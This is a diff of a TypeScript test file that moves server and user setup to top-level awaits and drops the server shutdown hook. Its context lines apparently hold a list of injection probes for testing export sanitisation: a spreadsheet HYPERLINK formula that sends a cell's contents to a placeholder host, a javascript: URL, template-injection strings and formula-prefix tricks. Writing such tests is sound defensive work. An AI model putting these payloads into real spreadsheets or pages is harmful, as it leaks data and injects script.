@@ -1,8 +1,8 @@
 import pino from 'pino';
 import { parse } from 'csv-parse/sync';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { beforeAll, describe, expect, it } from 'vitest';
 import { addUser, type Console, openConsole, password, signedIn } from '../../support/console.ts';
-import { startServer, type TestServer } from '../../support/startServer.ts';
+import { startServer } from '../../support/startServer.ts';
 import { jpegPhoto, pdfDocument } from '../../files/judge/fixtures.ts';
 import { entriesOf } from './readZip.ts';
 import { databaseOf } from '../../support/serverDatabase.ts';
@@ -12,17 +12,10 @@ const formula = `=HYPERLINK("http://x.example?"&A1,"see")`;
 const evil = [script, formula, `${'javascript'}:alert(1)//`, `{{7*7}}\${7*7}<%= 7 %>`, `＝1+1`, `\u200b=1+1`];
 
 const lines: string[] = [];
-let server: TestServer;
-let admin: Console & { email: string };
-let reviewer: Console & { email: string };
-let client: Console & { email: string };
-beforeAll(async () => {
-  server = await startServer({}, pino({ level: 'trace' }, { write: (line: string) => void lines.push(line) }));
-  admin = await signedIn(server, 'admin');
-  reviewer = await signedIn(server, 'reviewer');
-  client = await signedIn(server, 'office', { organization: server.own.id });
-});
-afterAll(() => server.close());
+const server = await startServer({}, pino({ level: 'trace' }, { write: (line: string) => void lines.push(line) }));
+const admin = await signedIn(server, 'admin');
+const reviewer = await signedIn(server, 'reviewer');
+const client = await signedIn(server, 'office', { organization: server.own.id });
 
 const bytes = { 'content-type': 'application/octet-stream' };
 const attach = async (job: number, kind: string, name: string, body: Uint8Array, array?: string) => {
